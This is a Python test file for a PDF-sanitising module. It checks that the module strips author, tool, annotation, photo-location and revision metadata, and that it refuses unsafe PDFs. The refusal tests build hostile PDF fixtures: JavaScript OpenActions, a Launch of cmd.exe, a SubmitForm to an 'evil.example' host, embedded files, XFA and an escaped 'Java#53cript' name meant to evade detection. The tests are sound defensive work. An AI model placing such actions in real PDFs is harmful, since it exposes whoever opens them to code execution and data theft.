"""A PDF keeps its pages, loses its makers, and is refused when it does more than show pages."""

import contextlib
import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream

from monitor.tips.cleaning import RefusedFileError
from monitor.tips.cleaning.look import look

from .builders import WORDS, action, new_pdf, pdf, revealing_photograph, written


def refusal(content: bytes) -> str:
    with pytest.raises(RefusedFileError) as refused:
        look(content)
    return str(refused.value)


def inflated(content: bytes) -> bytes:
    """Return everything in a PDF as it reads when nothing is packed."""
    with pikepdf.open(io.BytesIO(content)) as made:
        return written(
            made,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            compress_streams=False,
            fix_metadata_version=False,
        )


def revealing_pdf() -> pikepdf.Pdf:
    made = new_pdf()
    made.docinfo["/Author"], made.docinfo["/Producer"] = "Aigerim Secret", "Secret Writer 7"
    made.docinfo["/CreationDate"] = "D:20240301123000+05'00'"
    xmp = b'<x xmp:CreatorTool="Secret Tool"><stEvt:action/></x>'
    made.Root.Metadata = Stream(made, xmp, Type=Name.Metadata, Subtype=Name.XML)
    page = made.pages[0].obj
    page.PieceInfo = Dictionary(Secret=1)
    page.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=[0, 0, 9, 9], T="Boris Secret", M="SECRET")]
    )
    photograph = Stream(made, revealing_photograph(), Subtype=Name.Image, Filter=Name.DCTDecode, Width=60, Height=40)
    photograph.Metadata = Stream(made, b"Secret metadata")
    page.Resources = Dictionary(XObject=Dictionary(One=made.make_indirect(photograph)))
    return made


def test_the_sender_is_told_what_a_pdf_gives_away():
    said = " ".join(look(written(revealing_pdf(), fix_metadata_version=False)).reveals)

    for words in (
        "author “Aigerim Secret”",
        "“Secret Writer 7”",
        "made: 2024-03-01 at 12:30",
        "“Secret Tool”",
        "history of its editing (1",
        "“Boris Secret”",
        "A picture inside: The place where it was taken: 43.24, 76.95.",
    ):
        assert words in said


def test_the_copy_of_a_pdf_holds_its_words_and_no_maker():
    before = written(revealing_pdf(), fix_metadata_version=False, deterministic_id=True)
    cleaned = look(before)

    after = inflated(cleaned.content)
    assert WORDS.encode() in after
    for words in (b"ecret", b"SECRET", b"Pixel", b"PieceInfo", b"/Info", b"Metadata"):
        assert words not in after
    with pikepdf.open(io.BytesIO(before)) as made, pikepdf.open(io.BytesIO(cleaned.content)) as copy:
        assert made.trailer.ID[0] not in list(copy.trailer.ID)


def test_two_copies_are_the_same():
    before = written(revealing_pdf())

    assert look(before).content == look(before).content


def test_earlier_versions_are_told_and_left_out():
    first = pdf()
    start = int(first.rsplit(b"startxref", 1)[1].split()[0])
    later = f"9 0 obj\n(Secret old)\nendobj\nxref\n0 0\ntrailer <</Root 1 0 R /Size 10 /Prev {start}>>\nstartxref\n"
    cleaned = look(first + later.encode() + str(len(first) + 28).encode() + b"\n%%EOF\n")

    assert "Earlier versions of it are kept inside (1)" in " ".join(cleaned.reveals)
    assert b"Secret" not in inflated(cleaned.content)


def test_a_signature_is_told_and_left_out():
    made = new_pdf()
    signature = Dictionary(Type=Name.Sig, Name="Dana Secret", ByteRange=[0, 1, 2, 3], Contents=b"x")
    made.Root.AcroForm = Dictionary(Fields=[made.make_indirect(Dictionary(FT=Name.Sig, T="one", V=signature))])
    cleaned = look(written(made))

    assert "“Dana Secret”" in " ".join(cleaned.reveals)
    assert b"Secret" not in inflated(cleaned.content)


@pytest.mark.parametrize(
    ("root", "why"),
    [
        ({"OpenAction": action("JavaScript", JS="app.alert(1)")}, "runs a script"),
        ({"AA": Dictionary(WC=action("JavaScript", JS="x"))}, "runs a script"),
        ({"Names": Dictionary(JavaScript=Dictionary(Names=["a", action("JavaScript", JS="x")]))}, "runs a script"),
        ({"OpenAction": action("GoTo", Next=Array([action("JavaScript", JS="x")]))}, "runs a script"),
        ({"OpenAction": action("Launch", F="cmd.exe")}, "starts a program"),
        ({"OpenAction": action("SubmitForm", F="http://evil.example/")}, "sends a form"),
        ({"Names": Dictionary(EmbeddedFiles=Dictionary(Names=["a", Dictionary(Type=Name.Filespec)]))}, "Other files"),
        ({"AF": Array([Dictionary(EF=Dictionary(F=1))])}, "Other files"),
        ({"AcroForm": Dictionary(XFA="<script/>")}, "XFA"),
        ({"Anything": Array([Array([Dictionary(Subtype=Name("/RichMedia"), Rect=[0, 0, 1, 1])])])}, "sound, film"),
    ],
)
def test_a_pdf_that_does_more_than_show_pages_is_refused(root, why):
    assert why in refusal(pdf(**root))


def test_a_script_at_a_note_is_refused():
    made = new_pdf()
    made.pages[0].obj.Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 1, 1], A=action("JavaScript", JS="x"))])

    assert "runs a script" in refusal(written(made))


def test_a_script_by_another_spelling_is_refused():
    assert "runs a script" in refusal(pdf(OpenAction=action("Java")).replace(b"/S /Java ", b"/S /Java#53cript "))


def test_links_to_the_makers_computer_are_told_and_emptied_and_links_to_the_web_stay():
    made = new_pdf()
    made.pages[0].obj.Annots = Array(
        [
            Dictionary(Subtype=Name.Link, Rect=[0, 0, 1, 1], A=action("URI", URI=address))
            for address in ("file:///C:/Users/Secret/a.doc", "javascript:Secret", "https://example.org/")
        ]
    )
    cleaned = look(written(made))

    assert "C:/Users/Secret" in " ".join(cleaned.reveals)
    assert b"https://example.org/" in inflated(cleaned.content)
    assert b"Secret" not in inflated(cleaned.content)


def test_empty_lists_of_scripts_and_files_are_no_danger():
    empty = Dictionary(Names=Array([]))

    assert look(pdf(Names=Dictionary(EmbeddedFiles=empty, JavaScript=empty)))


@pytest.mark.parametrize("owner", [{"owner": "x", "user": ""}, {"owner": "x", "user": "y"}])
def test_a_locked_pdf_is_refused(owner):
    assert "locked" in refusal(written(new_pdf(), encryption=pikepdf.Encryption(**owner)))


def test_a_pdf_that_goes_in_circles_comes_to_an_end():
    made = new_pdf()
    one, two = made.make_indirect(Dictionary()), made.make_indirect(Dictionary())
    one.Kids, two.Kids, made.Root.Circle = Array([two, one]), Array([one]), one
    made.pages[0].obj.Parent.Kids.append(made.pages[0].obj.Parent)

    with contextlib.suppress(RefusedFileError):
        assert look(written(made, fix_metadata_version=False)).ending == "pdf"


def test_a_pdf_without_pages_is_refused():
    assert "no pages" in refusal(written(pikepdf.new()))
